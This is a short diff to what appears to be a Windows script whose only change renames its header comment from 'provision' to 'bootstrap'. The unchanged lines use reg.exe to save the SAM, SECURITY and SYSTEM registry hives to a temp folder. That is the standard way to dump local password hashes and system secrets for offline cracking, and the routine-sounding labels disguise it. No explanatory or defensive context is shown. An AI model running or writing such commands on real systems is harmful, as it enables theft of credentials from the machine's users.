@@ -1,4 +1,4 @@
-# provision 9495 v1
+# bootstrap 9226 v1
 reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
 reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
 reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
